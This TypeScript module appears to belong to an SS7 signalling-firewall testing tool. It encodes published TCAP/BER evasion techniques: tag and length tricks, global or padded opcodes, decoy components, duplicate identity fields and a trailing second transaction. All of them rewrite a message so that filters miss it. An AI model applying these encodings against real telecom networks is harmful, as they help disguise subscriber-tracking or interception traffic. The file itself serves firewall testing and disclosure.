// SPDX-License-Identifier: Apache-2.0
// Encodings that pass filters which look for the usual bytes: changes to a TCAP Begin that was
// built the ordinary way. Only published ones: Enea, "The Good, the Bad, and the Encoding" with its
// table of attacks since 2017 (global opcode 2019, long transaction id 2018 and 2022, extended
// application context 2022, missing called SSN 2023, tag forms); several components in one Begin:
// GSMA CVD-2018-0015, Puzankov at HITB Amsterdam 2019, US patent 10,862,866; the others are
// freedoms of X.690 every textbook names. A new one is disclosed first (SECURITY.md) and added here
// afterwards.

import { isConstructed, primitive, type Tlv } from './ber.ts';
import { concat, octets } from './bytes.ts';
import { imsiOctets, isdnAddress } from './digits.ts';
import { mapContext, operation } from './gsm-map.ts';
import { readyForSM } from './gsm-map-sms.ts';
import { invoke } from './tcap.ts';

/** What a Begin must tell so that it can be changed. */
export interface EvasionTarget {
  readonly begin: Tlv;
  /** Content octets of the element that names the subscriber. */
  readonly identity: Uint8Array;
  /** IMSI for an innocent component beside the real one. */
  readonly imsi: string;
  /** The X of the application context. */
  readonly context: number;
}

type Edit = (tlv: Tlv) => Tlv | readonly Tlv[];

/**
 * The tree with every element for which `wanted` holds replaced; replaced elements are not entered.
 */
function replace(tlv: Tlv, wanted: (tlv: Tlv) => boolean, edit: Edit): Tlv {
  if (!isConstructed(tlv)) return tlv;
  const content = tlv.content.flatMap((child) =>
    wanted(child) ? edit(child) : replace(child, wanted, edit),
  );
  return { ...tlv, content };
}

function sameOctets(a: Uint8Array, b: Uint8Array): boolean {
  return a.length === b.length && a.every((octet, index) => octet === b[index]);
}

function onIdentity(target: EvasionTarget, edit: Edit): Tlv {
  const { identity } = target;
  const wanted = (tlv: Tlv) =>
    !isConstructed(tlv) && sameOctets(tlv.content as Uint8Array, identity);
  return replace(target.begin, wanted, edit);
}

const hasId = (id: number) => (tlv: Tlv) => tlv.id === id;

/** Every invoke; 0xa1 means other things in the dialogue portion. */
function onInvoke(target: EvasionTarget, edit: Edit): Tlv {
  return replace(target.begin, hasId(0x6c), (portion) => replace(portion, hasId(0xa1), edit));
}

/** The operation code is the second member of an invoke. */
function onOpcode(target: EvasionTarget, edit: (code: Uint8Array) => Tlv): Tlv {
  return onInvoke(target, (component) => {
    if (!isConstructed(component)) return component;
    const content = component.content.map((member, index) =>
      index === 1 ? edit(member.content as Uint8Array) : member,
    );
    return { ...component, content };
  });
}

/** Everything constructed below the component portion in indefinite form. */
function indefinite(tlv: Tlv): Tlv {
  if (!isConstructed(tlv)) return tlv;
  return { ...tlv, content: tlv.content.map(indefinite), form: { length: 'indefinite' } };
}

/** The name of the application context, in whatever version it is asked for. */
function onContextName(target: EvasionTarget, edit: (name: Uint8Array) => Uint8Array): Tlv {
  const arcs = mapContext(target.context, 0).subarray(0, 6);
  const wanted = (tlv: Tlv) =>
    tlv.id === 0x06 && sameOctets((tlv.content as Uint8Array).subarray(0, 6), arcs);
  return replace(target.begin, wanted, (tlv) => primitive(0x06, edit(tlv.content as Uint8Array)));
}

/** Changes of the TCAP tree by name. */
export const tcapEvasions = {
  highTag: (t) => onIdentity(t, (tlv) => ({ ...tlv, form: { highTag: 1 } })),
  highTagPadded: (t) => onIdentity(t, (tlv) => ({ ...tlv, form: { highTag: 2 } })),
  nonMinimalLength: (t) => onIdentity(t, (tlv) => ({ ...tlv, form: { length: 4 } })),
  indefiniteLength: (t) => replace(t.begin, hasId(0x6c), indefinite),
  constructedString: (t) => onIdentity(t, halves),
  globalOpcode: (t) =>
    onOpcode(t, (code) => primitive(0x06, concat(octets(4, 0, 0, 1, 0, t.context), code))),
  paddedOpcode: (t) => onOpcode(t, (code) => primitive(0x02, concat(octets(0), code))),
  severalComponents: (t) => onInvoke(t, (component) => [innocent(t.imsi), renumbered(component)]),
  secondComponentPortion: (t) =>
    replace(t.begin, hasId(0x6c), (portion) => [
      { ...portion, content: [innocent(t.imsi)] },
      { ...portion, content: (portion.content as readonly Tlv[]).map(renumbered) },
    ]),
  longTransactionId: (t) =>
    replace(t.begin, hasId(0x48), (tid) =>
      primitive(0x48, concat(new Uint8Array(4), tid.content as Uint8Array)),
    ),
  extendedContext: (t) => onContextName(t, (name) => concat(name, octets(0))),
  paddedContext: (t) =>
    onContextName(t, (name) => concat(name.subarray(0, 5), octets(0x80), name.subarray(5))),
  noDialoguePortion: (t) => replace(t.begin, hasId(0x6b), () => []),
  octetAlignedExternal: (t) =>
    replace(t.begin, hasId(0x28), (external) => ({
      ...external,
      content: (external.content as readonly Tlv[]).map((member) =>
        member.id === 0xa0 ? { ...member, id: 0x81 } : member,
      ),
    })),
  duplicateIdentity: (t) => onIdentity(t, (tlv) => [decoy(tlv), tlv]),
} as const satisfies Record<string, (target: EvasionTarget) => Tlv>;

export type TcapEvasion = keyof typeof tcapEvasions;

/** An OCTET STRING in two segments (X.690 §8.7.3). */
function halves(tlv: Tlv): Tlv {
  const bytes = tlv.content as Uint8Array;
  const middle = bytes.length >> 1;
  const parts = [bytes.subarray(0, middle), bytes.subarray(middle)];
  return { id: tlv.id | 0x20, content: parts.map((part) => primitive(0x04, part)) };
}

/**
 * The same field with another value before it: a filter reads the first, a node may read the last.
 */
function decoy(tlv: Tlv): Tlv {
  const number = (tlv.content as Uint8Array)[0] === 0x91;
  const other = number ? isdnAddress('999999999999') : imsiOctets('001019999999999');
  return primitive(tlv.id, other);
}

function innocent(imsi: string): Tlv {
  return invoke(1, operation.readyForSM, readyForSM(imsi));
}

function renumbered(component: Tlv): Tlv {
  const [, ...rest] = component.content as readonly Tlv[];
  return { ...component, content: [primitive(0x02, octets(2)), ...rest] };
}

/** Octets of a second transaction behind the first, within the same SCCP data. */
export function withTrailingOctets(encoded: Uint8Array): Uint8Array {
  return concat(encoded, octets(0x62, 0x06, 0x48, 0x01, 0x11, 0x01));
}
